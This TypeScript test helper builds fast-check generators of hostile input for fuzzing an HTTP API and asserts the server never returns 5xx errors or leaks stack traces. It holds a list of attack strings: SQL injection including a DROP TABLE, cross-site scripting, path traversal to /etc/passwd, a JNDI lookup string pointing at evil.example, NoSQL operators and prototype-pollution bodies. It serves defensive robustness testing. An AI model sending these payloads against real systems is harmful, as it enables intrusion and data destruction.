/**
 * fast-check generators of hostile input and the check every answer to it must pass (DESIGN.md §5):
 * never a 5xx, every 4xx is problem+json with a `code`, no stack trace in any body.
 * Shared so module tests can fuzz their own routes the same way.
 */
import type { LightMyRequestResponse } from 'fastify';
import fc from 'fast-check';
import { expect } from 'vitest';

export const INJECTIONS = [
  "' OR 1=1--",
  "'); DROP TABLE patients;--",
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{"$gt":""}',
  '{{7*7}}',
  '%s%s%n',
  '__proto__',
];

export const ODD_UNICODE = [
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  '\u202E', // right-to-left override
  '\u200F', // right-to-left mark
  '\u200B', // zero-width space
  '\uFEFF', // byte order mark
  '\u0000',
  '\u2028',
  '\uFFFF',
  '😀',
  '👩‍⚕️',
  'e\u0301',
  'İß',
  '\u{10FFFF}',
];

export const NUMBER_ODDITIES = [
  '-1',
  '0',
  '-0',
  '1.5',
  '1e309',
  '9'.repeat(40),
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  ' 1',
  '',
  ' ',
  'null',
  'true',
  '[]',
  '{}',
  'undefined',
];

/** 10k–30k characters: past every length limit, as one repeated character (cheap to generate). */
export const hugeString = fc
  .tuple(fc.constantFrom('a', 'é', '😀', "'", '%', '\u0000'), fc.integer({ min: 10_000, max: 30_000 }))
  .map(([c, n]) => c.repeat(n));

export const oddString = fc
  .array(fc.oneof(fc.constantFrom(...ODD_UNICODE), fc.string({ unit: 'binary', maxLength: 4 })), {
    minLength: 1,
    maxLength: 8,
  })
  .map((parts) => parts.join(''));

/** Any string a careless or hostile client might send in a field. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 3 },
  { arbitrary: oddString, weight: 3 },
  { arbitrary: fc.constantFrom(...NUMBER_ODDITIES), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: hugeString, weight: 1 },
);

/** Looks like a UUID but is not one: a character replaced, a brace, a missing dash. */
export const uuidLikeInvalid = fc.oneof(
  fc
    .tuple(fc.uuid(), fc.nat(35), fc.constantFrom('g', 'Z', ' ', '', 'xx', '\u0000'))
    .map(([u, i, c]) => u.slice(0, i) + c + u.slice(i + 1)),
  fc.uuid().map((u) => `{${u}}`),
  fc.uuid().map((u) => u.replaceAll('-', '')),
  fc.uuid().map((u) => `${u}0`),
);

/** A value a path parameter might plausibly take: lets the rest of a request reach the handler. */
export const plausibleId = fc.oneof(
  fc.uuid(),
  fc
    .tuple(fc.constantFrom('C', 'D', 'P', 'A'), fc.integer({ min: 0, max: 99_999 }))
    .map(([p, n]) => `${p}${n}`),
);

export const badId: fc.Arbitrary<string> = fc.oneof(
  hostileString,
  uuidLikeInvalid,
  fc.integer({ max: -1 }).map(String),
  fc.double().map(String),
);

/**
 * encodeURIComponent, except that lone surrogates (which it refuses) become their WTF-8 bytes:
 * the request stays well-formed at the HTTP level and the server has to cope with invalid UTF-8.
 */
export function encodeComponent(value: string): string {
  let out = '';
  for (const ch of value) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      out += [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else {
      out += encodeURIComponent(ch);
    }
  }
  return out;
}

/** Already-encoded path segments with broken or surprising percent-encoding. */
export const brokenEncoding = fc.constantFrom('%', '%zz', '%E0%A4', '%C0%AF', '%00', '%2F', '%2e%2e', '%25');

/** An encoded path parameter: mostly hostile, sometimes plausible so other parts get exercised. */
export const pathParam = fc.oneof(
  { arbitrary: badId.map(encodeComponent), weight: 4 },
  { arbitrary: brokenEncoding, weight: 1 },
  { arbitrary: plausibleId, weight: 3 },
);

/** A cursor that decodes fine but carries odd keys: reaches SQL rather than the cursor regex. */
export const forgedCursor = fc
  .oneof(
    fc.tuple(fc.oneof(oddString, fc.constantFrom(...INJECTIONS)), fc.oneof(fc.uuid(), uuidLikeInvalid)),
    fc.jsonValue({ maxDepth: 2 }),
  )
  .map((key) => Buffer.from(JSON.stringify(key), 'utf8').toString('base64url'));

export const queryValue = fc.oneof(
  hostileString,
  forgedCursor,
  fc.integer().map(String),
  fc.double().map(String),
  fc.integer({ min: 1, max: 100 }).map(String),
);

/** key=value pairs, keys drawn mostly from the operation's own names so keys repeat (→ arrays). */
export function queryString(names: readonly string[]): fc.Arbitrary<string> {
  const key = fc.oneof(
    ...(names.length > 0 ? [{ arbitrary: fc.constantFrom(...names), weight: 4 }] : []),
    {
      arbitrary: fc.constantFrom('__proto__', 'constructor', 'limit[]', 'cursor[0]', 'q[$gt]', ''),
      weight: 1,
    },
    { arbitrary: fc.string({ maxLength: 8 }), weight: 1 },
  );
  return fc
    .array(fc.tuple(key, queryValue), { maxLength: 6 })
    .map((pairs) => pairs.map(([k, v]) => `${encodeComponent(k)}=${encodeComponent(v)}`).join('&'));
}

/** A JSON value of the wrong type for whatever field it lands in. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.constant({ $gt: '' }),
  hostileString,
);

/** A JSON text: random JSON, the schema's fields with wrong values or left out, or prototype tricks. */
export function jsonBody(fieldNames: readonly string[]): fc.Arbitrary<string> {
  const names = fieldNames.length > 0 ? fieldNames : ['name'];
  const fields = fc
    .array(fc.tuple(fc.constantFrom(...names), wrongValue), { maxLength: names.length + 2 })
    .map((entries) => Object.fromEntries(entries));
  return fc
    .oneof(
      fc.jsonValue({ maxDepth: 3 }),
      fields,
      fc.constantFrom(
        { $gt: '' },
        { $where: 'sleep(1000)' },
        JSON.parse('{"__proto__":{"admin":true}}') as object,
      ),
      fc.constant({ constructor: { prototype: { admin: true } } }),
    )
    .map((value) => JSON.stringify(value));
}

/** Bodies that are not JSON at all, or not what the content type claims. */
export const rawBody = fc.oneof(
  fc.constantFrom('{', '{"a":', '[1,2', 'nul', '"open', '{"a":1}}', '\u0000', '{"a":1,}', "{'a':1}"),
  hostileString,
);

export const contentType = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-7',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json, text/plain',
  ';;',
);

const STACK_RE = /\n\s+at |\bat [^\s]+ \(|(?:\.[cm]?[jt]s):\d+:\d+|node_modules[\\/]/;

/** True when an answer body shows internals: stack frames or file positions. */
export function leaksInternals(body: string): boolean {
  return STACK_RE.test(body);
}

/**
 * The contract for any request, however bad: never 5xx; a 4xx is problem+json with a string `code`;
 * no stack trace. `instance` (the path the caller sent, echoed back) is left out of the leak check.
 */
export function expectSafeAnswer(res: LightMyRequestResponse, what: string): void {
  expect(res.statusCode, `${what} → ${res.statusCode} ${res.body.slice(0, 500)}`).toBeLessThan(500);
  let text = res.body;
  if (res.statusCode >= 400) {
    expect(res.headers['content-type'], what).toMatch(/^application\/problem\+json/);
    const problem = res.json<{ code?: unknown; status?: unknown; instance?: unknown }>();
    expect(typeof problem.code, what).toBe('string');
    expect(problem.status, what).toBe(res.statusCode);
    text = JSON.stringify({ ...problem, instance: undefined });
  }
  expect(leaksInternals(text), `${what} leaks internals: ${text.slice(0, 500)}`).toBe(false);
}
